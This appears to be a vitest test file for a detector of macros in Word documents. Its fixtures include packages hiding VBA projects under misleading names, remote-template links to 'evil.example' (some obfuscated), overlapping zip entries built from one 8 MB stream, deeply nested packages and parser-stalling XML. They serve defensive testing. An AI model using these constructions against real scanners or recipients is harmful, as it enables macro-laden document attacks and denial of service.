import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { endOfZip, listing, zipOfParts as zip } from '../../../test/zip-package.ts'
import { hasMacros } from './macros.ts'

/** A compound file of old Office whose directory, at the given sector, has these storages. */
function oldOffice(names: readonly string[], sector = 3): Buffer {
  const file = Buffer.alloc(512 * (sector + 4))
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  for (const [n, name] of ['Root Entry', 'WordDocument', ...names].entries()) {
    const at = 512 * sector + 128 * n
    file.write(name, at, 'utf16le')
    file.writeUInt16LE((name.length + 1) * 2, at + 64)
    file.writeUInt8(n === 0 ? 5 : name === name.toUpperCase() ? 1 : 2, at + 66)
  }
  return file
}

const types = (more = '') =>
  `<?xml version="1.0"?><Types><Default Extension="xml" ContentType="text/xml"/>${more}</Types>`
const plain = { '[Content_Types].xml': types(), 'word/document.xml': '<w:document>Hola</w:document>' }
const program = oldOffice(['Macros', 'VBA', '_VBA_PROJECT'])

describe('a document brings a program along', () => {
  test.each([
    ['old Office with macros', oldOffice(['Macros', 'VBA'])],
    ['in whatever case', oldOffice(['mAcRoS'])],
    ['with its directory far away', oldOffice(['_VBA_PROJECT'], 900)],
    ['a new document, encrypted, under an old name', oldOffice(['EncryptedPackage'])],
    ['a package with its usual part', zip({ ...plain, 'word/vbaProject.bin': program })],
    ['under another name', zip({ ...plain, 'word/media/image1.png': program })],
    ['stored as it is', zip({ ...plain, 'word/foto.dat': program }, { isStored: true })],
    [
      'declared, whatever it is called',
      zip({
        ...plain,
        '[Content_Types].xml': types(
          '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      }),
    ],
    [
      'a kind of document that runs macros',
      zip({
        ...plain,
        '[Content_Types].xml': types(
          '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
      }),
    ],
    [
      'declared in UTF-16',
      zip({
        ...plain,
        '[Content_Types].xml': Buffer.from(
          types('<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
          'utf16le',
        ),
      }),
    ],
    [
      'a sheet with macros inside the document',
      zip({ ...plain, 'word/embeddings/hoja.xlsx': zip({ 'xl/workbook.xml': '', 'xl/x.bin': program }) }),
    ],
    ['a package without its list', zip({ ...plain, 'word/x.bin': program }, { isCut: true })],
    ['a list that leaves the part out', zip({ ...plain, 'word/x.bin': program }, { listed: 2 })],
    [
      'a template that is fetched from elsewhere',
      zip({
        ...plain,
        'word/_rels/settings.xml.rels':
          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
    ],
    [
      'a template from elsewhere, spelled in numbers',
      zip({
        ...plain,
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attached&#84;emplate" Target="&#x68;ttps://evil.example/t.dotm"/>',
      }),
    ],
    [
      'a template from elsewhere behind a sign that ends no tag',
      zip({
        ...plain,
        'word/_rels/settings.xml.rels':
          '<Relationship Id="a>b" Target="https://evil.example/t.dotm" Type="http://x/attachedTemplate"/>',
      }),
    ],
    [
      'a list of parts that brings names of its own along',
      zip({ ...plain, '[Content_Types].xml': `<!DOCTYPE t [<!ENTITY v "vba">]>${types()}` }),
    ],
    ['a list of parts that never ends', zip({ ...plain, '[Content_Types].xml': '<Types><Default x="' })],
    [
      'more than can be looked through',
      zip({ ...plain, '[Content_Types].xml': Buffer.alloc(9 * 1024 * 1024, 32) }),
    ],
  ])('%s', (_, content) => {
    expect(hasMacros(content)).toBe(true)
  })
})

const megabyte = 1024 * 1024
/** How the relation of an attached template begins: a search that looks on from each of them never comes to an end. */
const begun = 'attachedTemplate"'

/** Heads in a row that all say they are followed by the same stream. */
function overlapping(count: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(8 * megabyte, 32))
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 'latin1')
  head.writeUInt16LE(8, 8)
  head.writeUInt16LE(6, 26)
  const one = Buffer.concat([head, Buffer.from('a.rels')])
  const heads = Array.from({ length: count }, (_, n) => {
    const own = Buffer.from(one)
    own.writeUInt16LE((count - n - 1) * one.length, 28)
    return own
  })
  const directory = heads.map((_, n) => listing('a.rels', n * one.length, packed.length, 8 * megabyte))
  const at = count * one.length + packed.length
  return Buffer.concat([...heads, packed, ...directory, endOfZip(at)])
}

/** A package in a package, and so on. */
const nested = (depth: number): Buffer =>
  depth === 0 ? zip(plain) : zip({ ...plain, 'word/embeddings/a.docx': nested(depth - 1) })

/** Before, the first of them took an hour and a half; each is done with now after some steps a byte. */
describe('a document made to be looked through for ever', () => {
  test.each([
    ['eight megabytes of beginnings', begun.repeat(490_000), false],
    ['the same in one value', `<a b='${begun.repeat(490_000)}'/>`, false],
    ['as tags', `<${begun.repeat(10)}" `.repeat(40_000), true],
    ['comments that never end', '<!--'.repeat(2_000_000), true],
    ['values that never end', `<a b="'`.repeat(1_000_001), true],
    ['references that never end', `<a b="${'&#x'.repeat(2_000_000)}"/>`, false],
    ['a tag of spaces', `<a${' '.repeat(8_000_000)}b="c"/>`, false],
  ])('relations of %s', (_, text, isRefused) => {
    const content = zip({ ...plain, 'word/_rels/settings.xml.rels': text })
    expect(hasMacros(content)).toBe(isRefused)
  })

  test('more than 32 MB of lists altogether are not opened', () => {
    const list = `<a>${' '.repeat(7 * megabyte)}</a>`
    const lists = (count: number) =>
      zip(Object.fromEntries(Array.from({ length: count }, (_, n) => [`${n}.rels`, list])))
    expect(hasMacros(lists(4))).toBe(false)
    expect(hasMacros(lists(5))).toBe(true)
    // What lies in a package within is of the same 32 MB.
    expect(hasMacros(zip({ 'a.docx': lists(3), 'b.docx': lists(3) }))).toBe(true)
  })

  test('text that no program runs is not opened at all', () => {
    const large = Buffer.alloc(9 * megabyte, 32)
    const parts = Array.from({ length: 8 }, (_, n): [string, Buffer] => [`word/${n}.xml`, large])
    expect(hasMacros(zip({ ...plain, ...Object.fromEntries(parts) }))).toBe(false)
  })

  test('pictures of one colour are opened at their beginning alone', () => {
    const large = Buffer.alloc(megabyte, 7)
    const parts = Array.from({ length: 200 }, (_, n): [string, Buffer] => [`word/media/${n}.emf`, large])
    expect(hasMacros(zip({ ...plain, ...Object.fromEntries(parts) }))).toBe(false)
  })

  test('parts that share their content, lie in one another or are not listed are refused', () => {
    expect(hasMacros(overlapping(50))).toBe(true)
    expect(hasMacros(Buffer.concat([zip(plain, { isCut: true }), zip(plain)]))).toBe(true)
    const inside = zip({ 'word/a.png': Buffer.concat([Buffer.from('x'), zip(plain)]) }, { isStored: true })
    expect(hasMacros(inside)).toBe(true)
  })

  test('a document in a document is looked into, to the third', () => {
    expect(hasMacros(nested(3))).toBe(false)
    expect(hasMacros(nested(4))).toBe(true)
    expect(hasMacros(zip({ 'word/embeddings/a.docx': zip(plain) }, { isStored: true }))).toBe(false)
    const program = zip({ ...plain, 'word/x.bin': oldOffice(['Macros']) })
    expect(hasMacros(zip({ 'word/embeddings/a.docx': program }, { isStored: true }))).toBe(true)
  })
})

describe('a document without', () => {
  test.each([
    ['old Office', oldOffice(['Data', '1Table', '\u0005SummaryInformation'])],
    [
      'old Office that speaks of macros',
      Buffer.concat([oldOffice([]), Buffer.from('Macros VBA _VBA_PROJECT', 'utf16le')]),
    ],
    ['a package', zip(plain)],
    ['stored as it is', zip(plain, { isStored: true })],
    [
      'with a picture and an old sheet inside',
      zip({
        ...plain,
        'word/media/a.png': Buffer.alloc(5000, 7),
        'word/embeddings/b.bin': oldOffice(['Workbook']),
      }),
    ],
    [
      'that speaks of macros',
      zip({
        ...plain,
        'word/document.xml': '<w:t>vnd.ms-office.vbaProject macroEnabled vbaProject.bin</w:t>',
      }),
    ],
    [
      'with a template of its own machine',
      zip({
        ...plain,
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>',
      }),
    ],
    ['no package at all', Buffer.from('Hola')],
    ['the beginning of one', Buffer.from('PK\x03\x04\x01\x01', 'latin1')],
    ['nothing', Buffer.alloc(0)],
  ])('%s', (_, content) => {
    expect(hasMacros(content)).toBe(false)
  })
})
